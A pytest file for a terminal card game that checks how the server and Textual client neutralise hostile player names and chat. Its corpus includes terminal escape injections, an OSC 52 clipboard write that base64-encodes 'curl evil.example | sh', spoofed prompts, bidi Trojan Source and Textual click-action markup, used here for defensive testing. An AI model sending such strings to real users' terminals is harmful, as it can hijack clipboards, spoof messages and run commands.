"""Hostile text: what one player writes (a name, a chat line) can carry no terminal escape and no
Textual markup onto another player's screen.

A corpus of real hostile strings is checked at three levels: the server refuses escapes in names
and chat and lets markup-looking chat through as written; the app of another player, driven
through Textual against a real server, shows all of it as literal text (also when a server lets
escapes through); and `clean` / `plain`, which every such text passes through, over the corpus.
"""

from __future__ import annotations

import asyncio
import io
import re
import sqlite3
import time
import unicodedata
from collections.abc import Iterable
from contextlib import closing
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import Any

import pytest
import trio
from rich.console import Console
from rich.segment import Segment
from rich.text import Text
from textual.app import App
from textual.widget import Widget
from textual.widgets import DataTable, OptionList, RichLog, Static

from cardtable.client.handshake import connect
from cardtable.client.session import ClientSession, RequestFailed
from cardtable.client.ui.app import CardtableApp
from cardtable.client.ui.chat import line_text
from cardtable.client.ui.diplomacy import DealNote, note_text
from cardtable.client.ui.history import HistoryScreen
from cardtable.client.ui.history_words import holder_names, names_at, scores_words, winner_words
from cardtable.client.ui.lobby import LobbyScreen, seat_words
from cardtable.client.ui.plain import clean, plain
from cardtable.client.ui.replay import ReplayScreen
from cardtable.client.ui.scoring import breakdown
from cardtable.client.ui.table import TableScreen
from cardtable.client.ui.table_state import TableState, seat_names
from cardtable.engine.scores import Result, RoundScore, ScoreLine
from cardtable.protocol import (
    ChatLine,
    ChatLinePush,
    Error,
    ErrorCode,
    Message,
    SeatHolder,
    SeatKind,
    SeatSummary,
    TableChanged,
    TableCreated,
    TableSummary,
)
from cardtable.protocol.messages import NAME_LENGTH
from cardtable.server.names import name_problem
from cardtable.server.storage.codec import pack
from tests.client.support import (
    Remote,
    ServerThread,
    join_app,
    lobby_of,
    run_async,
    screen_text,
    server_thread,
    still_running,
    wait_until,
)
from tests.protocol.records import history_entry_of, table_in_play
from tests.server.conftest import HOST, served, server_config
from tests.server.raw import raw_connect

REPLACEMENT = "\ufffd"
#: Wide enough that the players' names and the toasts are not cut off.
BIG = (120, 40)

#: Terminal escapes, control and format characters: refused in names and chat by the server,
#: shown as U+FFFD by the client if a server lets one through anyway.
ESCAPES = {
    "csi clear screen": "\x1b[2J\x1b[3J\x1b[H",
    "csi cursor moves": "ok\x1b[1A\x1b[2K\x1b[10;1HServer: you lost",
    "sgr colours": "\x1b[31;1;5mred\x1b[0m",
    "osc 52 clipboard write": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "osc 8 hyperlink": "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    "osc 0 window title": "\x1b]0;sudo password?\x07",
    "dcs": '\x1bP$q"p\x1b\\',
    "8-bit csi": "\x9b2J\x9b31m",
    "8-bit osc and st": "\x9d0;title\x9c",
    "bell": "ding\x07\x07\x07",
    "backspace overwrite": "Rhea\x08\x08\x08\x08Admin",
    "carriage return overwrite": "gg\rServer: Tess was banned",
    "newline fake line": "gg\nServer: Tess was banned",
    "tab": "a\tb",
    "nul": "nul\x00byte",
    "delete": "oops\x7f",
    "bidi override (Trojan Source)": "\u202eTrojan\u202c",
    "bidi isolates": "\u2066a\u2067b\u2068c\u2069",
    "right-to-left mark": "x\u200fy",
    "zero width space": "zero\u200bwidth",
    "word joiner and byte order mark": "w\u2060j\ufeff",
    "soft hyphen": "in\u00advisible",
}

#: Text that markup would act on (styles, links, actions, emoji codes) and text that strains a
#: screen (combining floods, wide and very long): chat may hold all of it; it is shown as written.
MARKUP = {
    "rich style": "[bold red]loud[/bold red]",
    "closing tag alone": "[/]",
    "stray closing tag": "[/bold]",
    "rich link": "[link=https://evil.example]free chips[/link]",
    "textual click quit": "[@click=app.quit]x[/]",
    "textual click dismiss": "[@click=screen.dismiss]close[/]",
    "textual click with arguments": "[@click=app.bell()]ring[/]",
    "escaped bracket": "\\[not markup]",
    "emoji codes": ":skull: :pile_of_poo:",
    "textual variables": "[on $error]$accent[/]",
    "fullwidth brackets": "\uff3bbold\uff3dx\uff3b/bold\uff3d",
    "combining flood (Zalgo)": "Z" + "\u0336\u0334\u0489" * 30 + "algo",
    "wide CJK": "漢字かな한글ｆｕｌｌ",
    "emoji with joiners": "👩\u200d👩\u200d👧 a\u200cb",
    "html": "<script>alert(1)</script>",
    "very long": "W" * 500,
}

CORPUS = {**ESCAPES, **MARKUP}
#: Every hostile string but the wide letters, which make a good name.
HOSTILE_NAMES = {label: text for label, text in CORPUS.items() if label != "wide CJK"}
#: Names a server takes that look odd: each must show exactly as it is.
ODD_NAMES = ["O'Brien", "漢字かな한글", "Zoë-2.x_y"]


def labelled(corpus: dict[str, str]) -> pytest.MarkDecorator:
    return pytest.mark.parametrize("text", list(corpus.values()), ids=list(corpus))


def harmful(text: str) -> str | None:
    """The first character in `text` a terminal could act on or that hides or reorders text:
    a control or format character (C0, C1, bidi, zero-width…) but the joiners of emoji and
    scripts."""
    for char in text:
        if unicodedata.category(char).startswith("C") and char not in "\u200c\u200d":
            return char
    return None


def rendered(text: Text, *, width: int = 1000) -> str:
    """What a terminal would be sent for `text` in colour."""
    console = Console(
        file=io.StringIO(), width=width, color_system="truecolor", legacy_windows=False
    )
    console.print(text, end="")
    output = console.file.getvalue()  # type: ignore[attr-defined]
    assert isinstance(output, str)
    return output


# -- (c) clean and plain over the corpus ----------------------------------------------------------


@labelled(CORPUS)
def test_clean_replaces_every_control_and_format_character_one_for_one(text: str) -> None:
    cleaned = clean(text)
    assert harmful(cleaned) is None
    assert "\x1b" not in cleaned and not any(0x80 <= ord(char) < 0xA0 for char in cleaned)
    assert len(cleaned) == len(text)
    for before, after in zip(text, cleaned, strict=True):
        assert after == (REPLACEMENT if harmful(before) else before), hex(ord(before))


@labelled(CORPUS)
def test_plain_is_the_text_as_written_with_no_markup_read(text: str) -> None:
    safe = plain(text)
    assert safe.plain == clean(text)
    assert safe.spans == [] and str(safe.style) == ""
    # As a terminal gets it: no escape but the ones the colours of no style would need (none).
    output = rendered(safe)
    assert "\x1b" not in output and "\x9b" not in output
    assert output.rstrip("\n").replace("\n", "") == clean(text).replace("\n", "")


@labelled(CORPUS)
def test_every_piece_of_another_players_text_is_shown_clean_and_unstyled(text: str) -> None:
    cleaned = clean(text)
    # A chat line: the sender's part in bold, the words with no style at all.
    line = line_text(ChatLine(1, 1.0, text, 0, text, 1, text))
    assert line.plain == f"{cleaned} → {cleaned}: {cleaned}"
    assert [(span.start, span.end) for span in line.spans] == [(0, 2 * len(cleaned) + 5)]
    # A deal's line in the chat, a seat in the lobby and at the table, a finished game.
    note = note_text(
        DealNote("deal:1:1:offer", "seat:1", f"Offer 1 from {text}", True, False, "", 1)
    )
    assert note.plain == f"◆ Offer 1 from {cleaned}" and note.spans == []
    seat = SeatSummary(0, SeatKind.PLAYER, text, True, None, False, 0)
    assert seat_words(seat).plain == f"1. {cleaned} ●"
    assert seat_names(table_in_play("chinese-ten", [text])) == [cleaned]
    result = Result(sides=((0,), (1,)), totals=(5, 9), winners=(0,))
    entry = replace(history_entry_of(1, "chinese-ten", "Chinese Ten", [text, "Bo"]), result=result)
    assert names_at(entry, 0) == [cleaned, "Bo"]
    assert scores_words(entry) == f"{cleaned} 5 · Bo 9" and winner_words(entry) == cleaned
    entry = replace(entry, holders=(SeatHolder(1, 3, text),))
    assert names_at(entry, 3) == [cleaned, cleaned]
    assert holder_names(entry)[1] == f"Bo, then {cleaned}"
    for piece in (line, note, seat_words(seat)):
        assert harmful(piece.plain) is None
        assert "\x1b]" not in rendered(piece) and "\x9b" not in rendered(piece)


def test_a_score_breakdown_shows_its_labels_and_names_as_written() -> None:
    label = "[@click=app.quit]Aces[/] :skull: \x1b[2J"
    lines = (ScoreLine(label, 5, 1),)
    score = RoundScore(1, ((0,), (1,)), (lines, lines))
    names = seat_names(table_in_play("chinese-ten", ["[b]Ann", "\x9bBo"]))
    state = TableState(table_in_play("chinese-ten", []), 0, {"totals": [5, 5]}, names)
    console = Console(file=io.StringIO(), width=200, color_system=None)
    console.print(breakdown(state, score))
    output = console.file.getvalue()  # type: ignore[attr-defined]
    assert "[@click=app.quit]Aces[/] :skull: \ufffd[2J" in output
    assert "[b]Ann" in output and "\ufffdBo" in output
    assert harmful(output.replace("\n", "")) is None


# -- (a) the server ------------------------------------------------------------------------------


def test_a_name_holds_no_ascii_character_that_markup_or_an_escape_needs() -> None:
    for code in range(128):
        char = chr(code)
        allowed = char.isalnum() or char in " -_.'"
        assert (name_problem(f"a{char}b") is None) == allowed, repr(char)
    for name in ODD_NAMES:
        assert name_problem(name) is None and len(name) <= NAME_LENGTH


async def test_the_server_refuses_every_hostile_name_at_the_handshake() -> None:
    with trio.fail_after(15):
        async with served(server_config()) as server:
            for label, name in HOSTILE_NAMES.items():
                async with raw_connect(HOST, server.port) as raw:
                    reply = await raw.hello(name)
                    assert isinstance(reply, Error), label
                    assert (reply.code, reply.fatal, reply.rid) == (
                        ErrorCode.BAD_NAME,
                        True,
                        None,
                    ), label
                    # It says what is wrong, and quotes nothing a terminal would act on.
                    assert harmful(reply.message) is None, (label, reply.message)
                    assert any(
                        words in reply.message
                        for words in ("control characters", "letters, digits", "characters long")
                    ), (label, reply.message)
                    assert await raw.until_closed() == [], label
            assert server.lobby.clients == {}
            for name in ODD_NAMES:
                async with raw_connect(HOST, server.port) as raw:
                    welcome = await raw.hello(name)
                    assert getattr(welcome, "name", None) == name, welcome


async def test_the_server_refuses_escapes_in_chat_and_passes_markup_on_as_written() -> None:
    config = server_config(chat_burst=100, chat_rate=100.0)
    with trio.fail_after(15):
        async with (
            served(config) as server,
            connect(HOST, server.port, "O'Brien") as sender,
            connect(HOST, server.port, "Tess") as victim,
        ):
            table = await sender.create_table("chinese-ten", 2, {"decks": 1})
            await sender.sit(table.table_id, 0)
            await victim.sit(table.table_id, 1)
            sender.transport.connection.check_outgoing = False  # send what a hostile client would
            for label, text in ESCAPES.items():
                for to in (None, 1):
                    with pytest.raises(RequestFailed) as caught:
                        await sender.say(text, to)
                    assert caught.value.code == ErrorCode.BAD_TEXT, label
                    assert "control characters" in caught.value.message, label
                    assert harmful(caught.value.message) is None, label
            for text in MARKUP.values():
                await sender.say(text)
            await sender.say(MARKUP["textual click quit"], 1)
            expected = [*MARKUP.values(), MARKUP["textual click quit"]]
            await victim.wait_for(lambda: len(victim.chat) == len(expected))
            assert [line.text for line in victim.chat] == expected
            assert {line.sender for line in victim.chat} == {"O'Brien"}


# -- (b) another player's app, against a real server -----------------------------------------------


def segments(app: App[Any]) -> list[Segment]:
    """Every segment of what the terminal shows now (all layers: toasts too)."""
    return [segment for strip in app.screen._compositor.render_strips() for segment in strip]


def clicks(app: App[Any]) -> set[str]:
    """The click actions anywhere on the screen."""
    found = set()
    for segment in segments(app):
        meta = segment.style.meta if segment.style is not None else {}
        if "@click" in meta:
            found.add(str(meta["@click"]))
    return found


#: The click actions the app itself puts on the screen: whispering to a player (the players
#: panel), a card or a spot on the board.
OUR_CLICKS = re.compile(r"(screen\.whisper|card|spot|pick)\(\d+\)")


def assert_harmless(app: App[Any]) -> None:
    """Nothing on the screen is a character a terminal acts on, and no click on it runs an
    action that came from someone's text."""
    for segment in segments(app):
        assert harmful(segment.text) is None, segment
    foreign = {click for click in clicks(app) if not OUR_CLICKS.fullmatch(click)}
    assert foreign == set(), foreign


def unstyled(segment: Segment) -> bool:
    style = segment.style
    if style is None:
        return True
    return not (
        style.bold
        or style.italic
        or style.underline
        or style.blink
        or style.reverse
        or style.color is not None
        or style.bgcolor is not None
        or style.link
        or style.meta
    )


def shown(app: App[Any], widget: Widget) -> str:
    """A widget's part of the screen (cut by cells: wide letters take two), rows joined by
    newlines."""
    region = widget.region
    strips = app.screen._compositor.render_strips()[region.y : region.bottom]
    return "\n".join(strip.crop(region.x, region.right).text for strip in strips)


def log_strips(app: App[Any], selector: str) -> list[list[Segment]]:
    return [list(strip) for strip in app.screen.query_one(selector, RichLog).lines]


def squeezed(texts: Iterable[str]) -> str:
    """`texts` run together without the spaces and line breaks wrapping adds or takes away."""
    return "".join("".join(text.split()) for text in texts)


def toasts(app: App[Any]) -> str:
    """The words of the notifications on the screen (each row's text right of a toast's edge)."""
    parts = [line.rpartition("▌")[2] for line in screen_text(app).splitlines() if "▌" in line]
    return " ".join(" ".join(parts).split())


def open_table(remote: Remote, seats: int) -> int:
    """`remote` opens a one-deck Chinese Ten table and sits in the first seat."""

    async def make(session: ClientSession) -> int:
        table = await session.create_table("chinese-ten", seats, {"decks": 1})
        await session.sit(table.table_id, 0)
        return int(table.table_id)

    return remote.do(make)


async def seated(pilot: Any, app: CardtableApp, table: int, seat: int) -> TableScreen:
    await wait_until(pilot, lambda: isinstance(app.screen, LobbyScreen), 5, "the lobby")
    app.request(lambda session: session.sit(table, seat))

    def there() -> bool:
        screen = app.screen
        return isinstance(screen, TableScreen) and screen.state is not None

    await wait_until(pilot, there, 5, "the table")
    assert isinstance(app.screen, TableScreen)
    return app.screen


def tell(server: ServerThread, name: str, message: Message) -> None:
    """Have the server send `message` to `name` as it is: past the checks a server makes of what
    players send (as a server that failed to make them would)."""
    server.call(lambda: lobby_of(server).clients[name].deliver(message))


def test_markup_looking_chat_and_odd_names_from_a_real_player_show_literally() -> None:
    with (
        server_thread(chat_burst=100, chat_rate=100.0) as server,
        Remote(server, "O'Brien") as obrien,
    ):

        async def body() -> None:
            app = join_app(server.port)
            async with app.run_test(size=BIG) as pilot:
                table = await asyncio.to_thread(open_table, obrien, 2)
                screen = await seated(pilot, app, table, 1)
                for text in MARKUP.values():
                    await obrien.ado(partial(ClientSession.say, text=text))
                await obrien.ado(lambda session: session.say("[@click=app.quit]psst[/]", to=1))
                await wait_until(pilot, lambda: screen.chat.panel.unread("seat:0") == 1, 5, "psst")
                said = [f"O'Brien: {text}" for text in MARKUP.values()]
                await wait_until(pilot, lambda: len(screen.chat.panel.lines) == len(said) + 1, 5)

                # Every line as written, wrapped to the panel, the sender alone in bold.
                strips = log_strips(app, "#chat-lines")
                assert squeezed(segment.text for strip in strips for segment in strip) == (
                    squeezed(said)
                )
                for strip in strips:
                    for segment in strip:
                        if segment.text.strip() and segment.text.strip() != "O'Brien:":
                            assert unstyled(segment), segment
                # The name shows as it is among the players, and names the private channel.
                assert "O'Brien" in screen_text(app)
                options = app.screen.query_one("#channels", OptionList)
                prompts = [str(options.get_option_at_index(i).prompt) for i in range(2)]
                assert prompts == ["▶ # table", "  @ O'Brien ● 1"]
                assert_harmless(app)

                # The lines on the screen are words: a click on them does nothing.
                for y in range(0, 12, 3):
                    await pilot.click("#chat-lines", offset=(10, y))
                await pilot.click("#channels", offset=(4, 1))
                await wait_until(
                    pilot,
                    lambda: (
                        [s.text for s in log_strips(app, "#chat-lines")[0]][:1]
                        == ["O'Brien → Tess: "]
                    ),
                    5,
                    "the private channel",
                )
                private = "".join(s.text for s in log_strips(app, "#chat-lines")[0])
                assert private.rstrip() == "O'Brien → Tess: [@click=app.quit]psst[/]"
                await pilot.click("#chat-lines", offset=(20, 0))
                await still_running(pilot, app)
                assert app.screen is screen
                assert_harmless(app)

        run_async(body, timeout=20)


#: Seat names a server could send if it failed to check them (18 characters at most: the
#: players panel cuts a name and its "●" short at 20 cells), and how they are shown.
BAD_SEATS = ["Rh\x1b[2J[b]x", "\x9b[@click=app.quit]"]
SHOWN_SEATS = ["Rh\ufffd[2J[b]x", "\ufffd[@click=app.quit]"]


def test_escapes_and_markup_a_server_lets_through_are_shown_as_harmless_text() -> None:
    with server_thread() as server, Remote(server, "Rhea") as rhea:

        async def body() -> None:
            app = join_app(server.port)
            async with app.run_test(size=BIG, notifications=True) as pilot:
                table = await asyncio.to_thread(open_table, rhea, 3)
                screen = await seated(pilot, app, table, 1)
                await pilot.press("l")  # the log in front: a private line is told in a toast

                def summary() -> TableSummary:
                    return lobby_of(server).tables[table].summary()

                changed = server.call(summary)
                seats = list(changed.seats)
                seats[0] = replace(seats[0], name=BAD_SEATS[0])
                seats[2] = replace(
                    seats[2], name=BAD_SEATS[1], kind=SeatKind.PLAYER, connected=True
                )
                tell(server, "Tess", TableChanged(table=replace(changed, seats=tuple(seats))))
                shown_names = SHOWN_SEATS
                await wait_until(
                    pilot, lambda: shown_names[1] in screen_text(app), 5, "the new names"
                )
                everything = " ".join(ESCAPES.values())
                lines = [
                    ChatLine(901, 1.0, BAD_SEATS[0], 0, None, None, everything),
                    ChatLine(902, 1.0, BAD_SEATS[1], 2, None, None, "[b]x[/b]"),
                    ChatLine(903, 1.0, BAD_SEATS[1], 2, "Tess", 1,
                             "\x1b]52;c;eA==\x07[@click=app.quit]q[/]"),
                ]  # fmt: skip
                for line in lines:
                    tell(server, "Tess", ChatLinePush(table_id=table, line=line))
                await wait_until(pilot, lambda: len(screen.chat.panel.lines) == 3, 5, "the lines")

                # The toast for the private line: its sender's name as written.
                told = f"Chat from {shown_names[1]}"
                await wait_until(pilot, lambda: told in toasts(app), 5, "the toast")
                # The players panel: the names as written, bracketed words and all.
                players = shown(app, screen.query_one("#players"))
                for name in shown_names:
                    assert name in players, players
                # The chat: every escape a replacement character, nothing acted on.
                await pilot.press("c")
                strips = log_strips(app, "#chat-lines")
                said = [f"{shown_names[0]}: {clean(everything)}", f"{shown_names[1]}: [b]x[/b]"]
                assert squeezed(s.text for strip in strips for s in strip) == squeezed(said)
                assert_harmless(app)
                await pilot.click("#players", offset=(4, 2))
                await pilot.click("#chat-lines", offset=(4, 0))
                await still_running(pilot, app)
                assert isinstance(app.screen, TableScreen)
                assert_harmless(app)

        run_async(body, timeout=20)


def test_the_lobby_shows_players_names_literally() -> None:
    with server_thread() as server, Remote(server, ODD_NAMES[1]) as creator:

        async def body() -> None:
            app = join_app(server.port, name="O'Brien")
            async with app.run_test(size=BIG) as pilot:
                await wait_until(pilot, lambda: isinstance(app.screen, LobbyScreen), 5)
                table = await asyncio.to_thread(open_table, creator, 2)
                await wait_until(pilot, lambda: ODD_NAMES[1] in screen_text(app), 5, "the table")
                # Our own name, in the title.
                assert "you are O'Brien" in screen_text(app)

                # A table a server failed to check: markup and escapes in names and creator.
                bad = server.call(lambda: lobby_of(server).tables[table].summary())
                creator_name, seat_name = "[@click=app.quit]Q[/]\x1b]0;t\x07", ":skull:\x9b2J[red]E"
                seats = list(bad.seats)
                seats[1] = replace(seats[1], name=seat_name, kind=SeatKind.PLAYER, connected=True)
                bad = replace(bad, table_id=table + 1, creator=creator_name, seats=tuple(seats))
                tell(server, "O'Brien", TableCreated(table=bad))
                tables = app.screen.query_one("#tables", DataTable)
                await wait_until(pilot, lambda: tables.row_count == 2, 5, "the second table")
                rows = [tables.get_row_at(index) for index in range(2)]
                assert [str(row[3]) for row in rows] == [
                    ODD_NAMES[1],
                    f"{ODD_NAMES[1]}, :skull:\ufffd2J[red]E",
                ]
                for row in rows:
                    assert all(isinstance(cell, Text) and not cell.spans for cell in row), row
                await pilot.press("down")
                detail = app.screen.query_one("#table-detail", Static)
                await wait_until(
                    pilot, lambda: "Table 2" in str(detail.render()), 5, "the second table"
                )
                lines = str(detail.render()).splitlines()
                assert "2. :skull:\ufffd2J[red]E ●" in lines
                assert "Opened by [@click=app.quit]Q[/]\ufffd]0;t\ufffd" in lines
                # On the screen, wrapped to the panel.
                assert squeezed(lines) == squeezed([shown(app, detail)])
                assert_harmless(app)

        run_async(body, timeout=15)


def test_history_and_replay_show_players_names_literally(tmp_path: Path) -> None:
    path = tmp_path / "server.db"
    hostile = ["[@click=app.quit]A[/]\x1b[2J", "\u202eB:skull:"]

    def finished() -> bool:
        with closing(sqlite3.connect(path)) as db:
            done = db.execute("SELECT 1 FROM games WHERE finished_at IS NOT NULL").fetchone()
            return done is not None

    with server_thread(db=str(path)) as server, Remote(server, "Rhea") as rhea:

        async def bots_play(session: ClientSession) -> None:
            table = await session.create_table("chinese-ten", 2, {"decks": 1})
            for seat in (0, 1):
                await session.add_bot(table.table_id, seat, "random")
            await session.start(table.table_id)

        rhea.do(bots_play)
        deadline = time.monotonic() + 10
        while not finished():
            assert time.monotonic() < deadline, "the bots' game did not end"
            time.sleep(0.05)
        # A file written by a server that did not check names (or was tampered with).
        with closing(sqlite3.connect(path)) as db:
            db.execute("UPDATE games SET players = ?", (pack(hostile),))
            db.commit()

        async def body() -> None:
            app = join_app(server.port)
            async with app.run_test(size=BIG) as pilot:
                await wait_until(pilot, lambda: isinstance(app.screen, LobbyScreen), 5)
                await pilot.press("h")
                await wait_until(pilot, lambda: isinstance(app.screen, HistoryScreen), 5)
                history = app.screen
                assert isinstance(history, HistoryScreen)
                names = ["[@click=app.quit]A[/]\ufffd[2J", "\ufffdB:skull:"]

                def named() -> bool:
                    text = " ".join(screen_text(app).split())
                    return all(name in text for name in names)

                await wait_until(pilot, named, 5, "the game's players")
                table = history.query_one("#history", DataTable)
                row = table.get_row_at(0)
                assert all(isinstance(cell, Text) and not cell.spans for cell in row[:4]), row
                assert_harmless(app)

                await pilot.press("enter")
                await wait_until(pilot, lambda: isinstance(app.screen, ReplayScreen), 5)
                replay = app.screen
                assert isinstance(replay, ReplayScreen)
                await wait_until(pilot, lambda: replay.steps is not None, 5, "the steps")
                await pilot.press("end")
                await wait_until(pilot, named, 5, "the players of the replay")
                assert_harmless(app)
                assert app.is_running

        run_async(body, timeout=20)
